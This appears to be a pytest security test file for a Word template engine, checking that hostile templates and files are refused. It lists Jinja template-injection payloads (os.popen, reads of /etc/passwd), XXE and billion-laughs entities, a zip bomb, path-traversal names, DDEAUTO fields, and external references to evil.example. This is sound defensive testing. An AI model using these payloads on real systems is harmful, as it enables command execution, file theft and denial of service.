"""Templates from strangers, texts pasted from anywhere, and files made to break readers.

Each test is one way in which a template engine has been broken into or made to lose text.
"""

import io
import time
import zipfile

import pytest

from docgen.base.errors import TemplateError
from docgen.template.compile import compile_template
from docgen.template.guard import check_output
from docgen.template.lint import lint_template
from docgen.template.surfaces import read_surfaces
from docgen.template.values import flatten
from tests.docxtpl_reference import differences, render_with_docxtpl
from tests.template_files import (
    NAMESPACES,
    docx_of,
    members_of,
    paragraph,
    table,
    with_members,
    zip_of,
)

SECONDS = 5
"""More than any of these may take, however loaded the machine."""

LIST = [{"姓名": "甲"}, {"姓名": "乙"}]


def refusal(docx: bytes, context: dict | None = None) -> list[str]:
    """The codes with which a template is refused, and that it is refused in time."""
    begin = time.process_time()
    with pytest.raises(TemplateError) as error:
        compile_template(docx, "模板.docx").render(context or {"甲": "一", "名单": LIST})
    assert time.process_time() - begin < SECONDS
    assert all(f.message and "Traceback" not in f.message for f in error.value.findings)
    return sorted({f.code for f in error.value.findings})


def texts_of(docx: bytes) -> list[str]:
    """The paragraphs of the body."""
    return [
        p.text for s in read_surfaces(members_of(docx)) for p in s.paragraphs if s.kind == "body"
    ]


# Code in templates


CODE = [
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ lipsum.__globals__['os'].popen('id').read() }}",
    "{{ joiner.__init__.__globals__ }}",
    "{{ self.__init__.__globals__ }}",
    "{{ namespace(a=1) }}",
    "{{ ''.__class__.__mro__ }}",
    "{{ 甲.__class__ }}",
    "{{ 甲['__class__'] }}",
    "{{ 甲['__class__']['__mro__'] }}",
    "{{ '{0.__class__}'.format(1) }}",
    "{{ 甲.format(1) }}",
    "{{ 甲 | attr('__class__') }}",
    "{{ 名单 | map('attr', '__class__') | list }}",
    "{{ 名单.append('x') }}",
    "{{ 甲.upper() }}",
    "{{ range(10 ** 9) }}",
    "{{ 7 ** 99999999 }}",
    "{{ 'x' * 10 ** 9 }}",
    "{{ '%1000000000d' % 1 }}",
    "{{ 甲.center(10 ** 9) }}",
    "{{ 甲 + 甲 }}",
    "{{ 甲[0:1] }}",
    "{{ [甲, 甲] }}",
    "{{ {'a': 甲} }}",
    "{{ (甲, 甲) }}",
    "{{ 甲 if 名单 else 甲 }}",
    "{{ 甲 is defined }}",
    "{{ 甲 | default('无') }}",
    "{{ 甲 | safe }}",
    "{{ 甲 | e }}",
    "{{ _甲 }}",
    "{{ None }}",
    "{{ 1.5 }}",
    "{{ caller() }}",
    "{{ super() }}",
    "{% set 甲 = '乙' %}",
    "{% macro f() %}{{ f() }}{% endmacro %}",
    "{% call f() %}{% endcall %}",
    "{% include 'etc/passwd' %}",
    "{% import 'x' as y %}",
    "{% from 'x' import y %}",
    "{% extends 'x' %}",
    "{% block a %}{% endblock %}",
    "{% filter upper %}x{% endfilter %}",
    "{% with a = 1 %}{% endwith %}",
    "{% autoescape false %}{{ 甲 }}{% endautoescape %}",
    "{% raw %}{{ 甲 }}{% endraw %}",
    "{% do 名单.append(1) %}",
    "{% for x in 名单 recursive %}{% endfor %}",
    "{% for x in 名单 if x %}{% endfor %}",
    "{% for x, y in 名单 %}{% endfor %}",
    "{% for loop in 名单 %}{% endfor %}",
    "{% for x in range(9) %}{% endfor %}",
    "{%- if 甲 -%}x{%- endif -%}",
    "{{r 甲 }}",
    "{{p 甲 }}",
    "{%tc for x in 名单 %}",
    "{% colspan 3 %}",
    "{% cellbg 甲 %}",
    "{% hm %}",
    "{% vm %}",
]


@pytest.mark.parametrize("code", CODE)
def test_code_in_a_template_is_refused_by_the_linter_and_never_run(code):
    found = lint_template(docx_of(f"注：{code}"), "模板.docx")
    errors = {f.code for f in found if f.severity == "error"}
    assert errors and errors <= {"T102", "T103", "T105", "T106"}, [str(f) for f in found]
    assert refusal(docx_of(f"注：{code}"))


@pytest.mark.parametrize("surface", ["header", "footer", "footnote", "title"])
def test_code_is_refused_on_every_surface(surface):
    code = "{{ cycler.__init__.__globals__.os.popen('id').read() }}"
    assert refusal(docx_of("甲", **{surface: code})) == ["T105"]


def test_code_split_over_runs_or_hidden_by_quotes_of_word_is_refused():
    split = ("{", "{ 甲.__", "class__ }", "}")
    assert refusal(docx_of(split)) == ["T105"]
    assert refusal(docx_of("{{ 甲[“__class__”] }}")) == ["T105"]


def test_keys_that_are_names_of_methods_are_only_keys():
    context = {"表": {"items": "条目", "pop": "弹", "keys": "键"}}
    docx = compile_template(docx_of("{{ 表.items }}{{ 表.pop }}{{ 表.keys }}"), "模板.docx")
    assert texts_of(docx.render(context)) == ["条目弹键"]
    with pytest.raises(TemplateError, match="“表”里没有“clear”"):
        compile_template(docx_of("{{ 表.clear }}"), "模板.docx").render(context)


def test_a_value_is_never_evaluated_even_where_docxtpl_renders_twice():
    section = "<w:p><w:pPr><w:sectPr/></w:pPr></w:p>"
    docx = docx_of("甲", section, footnote="{{ 值 }}")
    context = {"值": "{{ 7*7 }}"}
    ours = compile_template(docx, "模板.docx").render(context)
    assert "{{ 7*7 }}" in members_of(ours)["word/footnotes.xml"].decode()
    theirs = members_of(render_with_docxtpl(docx, context))["word/footnotes.xml"].decode()
    assert "49" in theirs  # the notes of a document of two sections are rendered twice


def test_the_values_of_the_caller_cannot_be_reached_or_changed():
    class Spy(dict):
        def __getattr__(self, name):
            raise AssertionError(f"{name} was looked up")

    context = {"甲": Spy({"乙": "丙"}), "名单": ["一"]}
    docx = compile_template(docx_of("{{ 甲.乙 }}{{ 名单 | 连接 }}"), "模板.docx")
    assert texts_of(docx.render(context)) == ["丙一"]
    assert context == {"甲": {"乙": "丙"}, "名单": ["一"]}


# Templates made to take the machine down


def nested_loops(depth: int) -> bytes:
    return docx_of("注：" + "{% for 甲 in 名单 %}" * depth + "字" + "{% endfor %}" * depth)


def test_loops_in_loops_stop_at_the_budget():
    assert refusal(nested_loops(3), {"名单": ["一"] * 99_999}) == ["T131"]
    assert refusal(nested_loops(10), {"名单": ["一"] * 20}) == ["T131"]


def test_long_values_in_loops_stop_at_the_budget():
    docx = docx_of("注：{% for 甲 in 名单 %}{{ 长 }}{% endfor %}")
    assert refusal(docx, {"名单": ["一"] * 10_000, "长": "长" * 1_000_000}) == ["T131"]
    joined = docx_of("{{ " + " ~ ".join(["长"] * 90) + " }}" * 1)
    assert refusal(joined, {"长": "长" * 5_000_000}) == ["T131"]


def test_deep_nesting_and_endless_tags_are_refused():
    assert refusal(nested_loops(11)) == ["T114"]
    assert refusal(docx_of("{{ " + "(" * 2000 + "甲" + ")" * 2000 + " }}")) == ["T114"]
    assert refusal(docx_of("{{ " + "not " * 120 + "甲 }}")) == ["T111"]  # a yes-no value
    assert refusal(docx_of(*["{% if 甲 %}"] * 3000)) == ["T102", "T114"]


def test_too_many_tags_are_refused_in_time():
    assert refusal(docx_of("{{ 甲 }}" * 5001)) == ["T114"]
    assert refusal(docx_of(*["{{ 甲 }}"] * 5001)) == ["T114"]


@pytest.mark.slow
def test_the_largest_template_allowed_compiles_in_time():
    rows = [["头"]] + [["{%tr if 甲 %}"], ["{{ 甲 }}"], ["{%tr endif %}"]] * 800
    begin = time.process_time()
    compile_template(docx_of(*["{{ 甲 }}"] * 2000, table(rows)), "模板.docx").render({"甲": "一"})
    assert time.process_time() - begin < 4 * SECONDS


def test_a_part_of_a_thousand_pages_is_refused():
    body = paragraph("长" * 1000) * 2000
    assert refusal(docx_of(body)) == ["T114"]


def test_a_number_of_a_thousand_digits_is_refused():
    assert refusal(docx_of("注：{% if 甲 == " + "9" * 400 + " %}乙{% endif %}")) == ["T105"]
    assert refusal(docx_of("{{ 甲 }}"), {"甲": 10**5000}) == ["T130"]


# Texts from anywhere


@pytest.mark.parametrize(
    "value",
    [
        "AT&T 与 R&D",
        "产值<100万元且>50万元",
        "前文 a<b 后文仍在",
        "见<附件1>说明",
        "</w:t></w:r></w:p><w:p><w:r><w:t>伪造的一段</w:t></w:r></w:p><w:p><w:r><w:t>",
        "]]>",
        "&#60;&lt;&amp;",
        "<!-- 注 --><?pi?>",
        "一行\r\n二行\r三行\n四行",
        "制\t表",
        "😀𠮷䶮㛃",
        "零\u200b宽\u200d字",
        "不换行\xa0空格",
        "{{ 7*7 }}{% if x %}{# y #}{_{ z }_}{_% a %_}",
        "{%p for x in y %}",
        "长" * 350_000,
    ],
    ids=lambda v: v[:12].encode("unicode_escape").decode(),
)
def test_a_text_of_any_kind_is_in_the_document_whole_and_nothing_else_is_lost(value):
    docx = docx_of("头{{ 值 }}尾", "其后段落", header="{{ 值 }}", title="{{ 值 }}")
    compiled = compile_template(docx, "模板.docx")
    rendered = compiled.render({"值": value})
    first, last = texts_of(rendered)
    shown = "头" + value.replace("\r\n", "\n").replace("\r", "\n") + "尾"
    assert first.replace("\ufffc", "") == shown.replace("\n", "").replace("\t", "")
    assert last == "其后段落"
    assert check_output(rendered, flatten({"值": value}), compiled.uses) == []


def test_breaks_are_one_for_each_line_end():
    rendered = compile_template(docx_of("{{ 值 }}"), "模板.docx").render({"值": "一\r\n二\r三\n四"})
    assert members_of(rendered)["word/document.xml"].decode().count("<w:br/>") == 3


@pytest.mark.parametrize(
    ("char", "kept"),
    [(c, "") for c in "\x00\x01\x07\x1b\x7f\x9f\ufffe\uffff\ud800\udfff\u202e\u2066"]
    + [(c, "\n") for c in "\x0b\x0c\x85\u2028"],
)
def test_a_character_that_a_file_cannot_hold_is_taken_out_and_named(char, kept):
    compiled = compile_template(docx_of("头{{ 值 }}尾", "其后段落"), "模板.docx")
    context = {"值": f"甲{char}乙"}
    rendered = compiled.render(context)
    assert texts_of(rendered) == [f"头甲{kept}乙尾".replace("\n", "\ufffc"), "其后段落"]
    (finding,) = check_output(rendered, flatten(context), compiled.uses)
    assert finding.code == "T143" and f"U+{ord(char):04X}" in finding.message


def test_none_is_refused_and_a_list_is_not_printed():
    assert refusal(docx_of("{{ 甲 }}"), {"甲": None}) == ["T130"]
    assert refusal(docx_of("{{ 甲 }}"), {"甲": ["乙"]}) == ["T111"]


def test_docxtpl_itself_would_lose_or_rewrite_what_we_keep():
    docx = docx_of("头{{ 值 }}尾", "其后段落")
    context = {"值": "{_{ 甲 }_}"}
    assert "{{ 甲 }}" in "".join(texts_of(render_with_docxtpl(docx, context)))
    assert texts_of(compile_template(docx, "模板.docx").render(context))[0] == "头{_{ 甲 }_}尾"


# Files made to break readers


BODY = "word/document.xml"


def with_body(prolog: str, body: str) -> bytes:
    document = f"{prolog}<w:document {NAMESPACES}><w:body><w:p><w:r><w:t>{body}</w:t></w:r></w:p></w:body></w:document>"
    return with_members(docx_of("甲"), {BODY: document})


def test_a_document_type_is_refused():
    entity = '<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    assert refusal(with_body(entity, "[&x;]")) == ["T100"]
    laughs = "<!DOCTYPE w [<!ENTITY a 'ha'><!ENTITY b '&a;&a;&a;&a;'>]>"
    assert refusal(with_body(laughs, "&b;")) == ["T100"]


def test_a_document_type_in_another_encoding_or_behind_blanks_is_refused_too():
    entity = '<!DOCTYPE w [<!ENTITY x "内部">]>'
    late = " " * 5000 + entity
    wide = with_body(f'<?xml version="1.0" encoding="UTF-16"?>{entity}', "&x;{{ 甲 }}")
    document = members_of(wide)[BODY].decode().encode("utf-16")
    for docx in (with_body(late, "&x;{{ 甲 }}"), with_members(wide, {BODY: document})):
        try:
            rendered = compile_template(docx, "模板.docx").render({"甲": "一"})
        except TemplateError as error:
            assert error.findings[0].code == "T100"
        else:
            pytest.fail(f"rendered {texts_of(rendered)}")


def test_endless_nesting_is_refused_in_time():
    assert refusal(with_body("", "<w:r>" * 20_000 + "</w:r>" * 20_000)) == ["T100"]


def test_a_zip_bomb_is_refused_before_it_unpacks():
    bomb = with_members(docx_of("甲"), {BODY: b" " * 300_000_000})
    assert len(bomb) < 1_000_000
    assert refusal(bomb) == ["T100"]


@pytest.mark.parametrize("name", ["../outside.xml", "/etc/x", "word\\a.xml", "a/../../b"])
def test_odd_member_names_are_refused(name):
    assert refusal(with_members(docx_of("甲"), {name: "x"})) == ["T100"]


@pytest.mark.filterwarnings("ignore:Duplicate name")
def test_a_duplicate_member_is_refused():
    buffer = io.BytesIO(docx_of("甲"))
    with zipfile.ZipFile(buffer, "a") as archive:
        archive.writestr(BODY, "<x/>")
    assert refusal(buffer.getvalue()) == ["T100"]


def test_an_encrypted_or_old_or_foreign_file_is_refused_with_a_reason():
    encrypted = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 512
    for data in (encrypted, b"", b"%PDF-1.7", docx_of("甲")[:-200], zip_of({"a": "b"})):
        assert refusal(data) == ["T100"]


def test_a_package_with_a_part_missing_or_torn_is_refused():
    for member in ("word/document.xml", "_rels/.rels", "[Content_Types].xml"):
        members = members_of(docx_of("甲"))
        del members[member]
        assert refusal(zip_of(members)) == ["T100"]
    torn = members_of(docx_of("甲"))[BODY][:-40]
    assert refusal(with_members(docx_of("甲"), {BODY: torn})) == ["T100"]
    assert refusal(docx_of("甲", links=[("header", "missing.xml", False)])) == ["T100"]


def test_a_package_without_styles_settings_and_properties_is_usable():
    members = members_of(docx_of("{{ 甲 }}", title=None))
    del members["word/styles.xml"], members["word/_rels/document.xml.rels"]
    members["[Content_Types].xml"] = members["[Content_Types].xml"].replace(
        b'<Override PartName="/word/styles.xml"', b'<Override PartName="/word/none.xml"'
    )
    assert texts_of(compile_template(zip_of(members), "模板.docx").render({"甲": "一"})) == ["一"]


def test_an_attached_template_outside_is_cut_off_and_reported():
    rels = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships/attachedTemplate" Target="http://evil.example/a.dotm" TargetMode="External"/>'
        "</Relationships>"
    )
    settings = f'<w:settings {NAMESPACES}><w:attachedTemplate r:id="rId1"/></w:settings>'
    docx = docx_of("{{ 甲 }}", links=[("settings", "settings.xml", False)])
    types = members_of(docx)["[Content_Types].xml"].decode()
    kind = "application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml"
    docx = with_members(
        docx,
        {
            "word/settings.xml": settings,
            "word/_rels/settings.xml.rels": rels,
            "[Content_Types].xml": types.replace(
                "</Types>",
                f'<Override PartName="/word/settings.xml" ContentType="{kind}"/></Types>',
            ),
        },
    )
    compiled = compile_template(docx, "模板.docx")
    assert [(f.code, f.severity) for f in compiled.findings] == [("T121", "warning")]
    members = members_of(compiled.render({"甲": "一"}))
    assert not any(
        b"evil.example" in data or b"attachedTemplate" in data for data in members.values()
    )


@pytest.mark.parametrize(
    ("kind", "target", "codes"),
    [
        ("image", "file:///C:/logo.png", ["T121"]),
        ("image", "http://evil.example/pixel.png", ["T121"]),
        ("oleObject", "http://evil.example/x.hta", ["T121"]),
        ("frame", "http://evil.example/", ["T121"]),
        ("subDocument", "file:///C:/x.docx", ["T121"]),
    ],
)
def test_references_to_files_outside_are_refused(kind, target, codes):
    assert refusal(docx_of("甲", links=[(kind, target, True)])) == codes


def test_a_web_link_is_kept_and_a_file_link_reported():
    web = lint_template(docx_of("甲", links=[("hyperlink", "https://example.org/", True)]), "x")
    assert web == []
    for target in ("file://server/share", "javascript:alert(1)", "\\\\server\\x"):
        found = lint_template(docx_of("甲", links=[("hyperlink", target, True)]), "x")
        assert [(f.code, f.severity) for f in found] == [("T121", "warning")]


@pytest.mark.parametrize(
    "member",
    [
        "word/vbaProject.bin",
        "word/vbaData.xml",
        "word/activeX/activeX1.xml",
        "word/activeX/activeX1.bin",
    ],
)
def test_macros_and_controls_are_refused(member):
    assert refusal(docx_of("甲", parts={member: b"<x/>"})) == ["T120"]


def test_an_imported_chunk_is_refused():
    assert refusal(docx_of("甲", links=[("aFChunk", "chunk.html", False)])) != []
    assert "T120" in refusal(docx_of('<w:altChunk r:id="rId9"/>'.replace("<w:", "<w:", 1)))


def test_embedded_objects_are_reported():
    found = lint_template(docx_of("甲", parts={"word/embeddings/oleObject1.bin": b"x"}), "x")
    assert [(f.code, f.severity) for f in found] == [("T123", "warning")]


def field(*codes: str) -> str:
    runs = "".join(f"<w:r><w:instrText>{c}</w:instrText></w:r>" for c in codes)
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{k}"/></w:r>' for k in ("begin", "end"))
    return f"<w:p>{begin}{runs}{end}</w:p>"


@pytest.mark.parametrize(
    "xml",
    [
        field(" DDEAUTO c:\\\\x.exe"),
        field(" D", "DE", "AUTO x"),
        field("dde excel"),
        field("INCLUDETEXT x"),
        field("INCLUDEPICTURE http://evil.example/x"),
        field("LINK Excel.Sheet.8"),
        field("QUOTE 68 68 69"),
        field("MACROBUTTON x y"),
        '<w:p><w:fldSimple w:instr="DDEAUTO x"/></w:p>',
        "<w:p><w:r><w:instrText>DDEAUTO x</w:instrText></w:r></w:p>",
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDE x</w:instrText></w:r></w:p>',
    ],
)
def test_fields_that_run_programs_or_read_files_are_refused(xml):
    assert refusal(docx_of(xml)) == ["T122"]


def test_a_field_name_put_together_by_an_inner_field_is_refused():
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{k}"/></w:r>' for k in ("begin", "end"))
    inner = f"{begin}<w:r><w:instrText>IF 1=1 DDEAUTO</w:instrText></w:r>{end}"
    outer = f"<w:p>{begin}{inner}<w:r><w:instrText> c:\\x.exe</w:instrText></w:r>{end}</w:p>"
    assert refusal(docx_of(outer)) == ["T122"]


@pytest.mark.parametrize(
    "code", ["PAGE", " PAGE \\* MERGEFORMAT", "TOC \\o 1-3", "= 1 + 2", "REF 表1 \\h"]
)
def test_fields_that_read_only_the_document_are_allowed(code):
    assert lint_template(docx_of(field(code)), "模板.docx") == []


def test_a_date_field_is_a_warning():
    found = lint_template(docx_of(field('DATE \\@ "yyyy"')), "模板.docx")
    assert [(f.code, f.severity) for f in found] == [("T126", "warning")]


def test_tracked_changes_are_refused_and_comments_reported():
    inserted = '<w:p><w:ins w:id="1"><w:r><w:t>{{ 甲 }}</w:t></w:r></w:ins></w:p>'
    deleted = '<w:p><w:del w:id="1"><w:r><w:delText>{{ 甲.x() }}</w:delText></w:r></w:del></w:p>'
    assert refusal(docx_of(inserted)) == ["T124"]
    assert refusal(docx_of(deleted)) == ["T112", "T124"]
    comments = f'<w:comments {NAMESPACES}><w:comment w:id="1">{paragraph("{{ 甲 }}")}</w:comment></w:comments>'
    found = lint_template(docx_of("甲", parts={"word/comments.xml": comments.encode()}), "x")
    assert [(f.code, f.severity) for f in found] == [("T125", "warning")]


def test_a_hidden_second_view_of_a_tag_is_filled_as_well():
    box = (
        '<w:p><w:r><mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-'
        'compatibility/2006"><mc:Choice Requires="wps"><w:txbxContent>{0}</w:txbxContent></mc:Choice>'
        "<mc:Fallback><w:pict><w:txbxContent>{0}</w:txbxContent></w:pict></mc:Fallback>"
        "</mc:AlternateContent></w:r></w:p>"
    ).format(paragraph("{{ 甲 }}"))
    context = {"甲": "一\n<二>"}
    rendered = compile_template(docx_of(box, "{{ 甲 }}"), "模板.docx").render(context)
    assert texts_of(rendered) == ["\ufffc", "一\ufffc<二>", "一\ufffc<二>", "一\ufffc<二>"]
    assert differences(rendered, render_with_docxtpl(docx_of(box, "{{ 甲 }}"), context)) == []
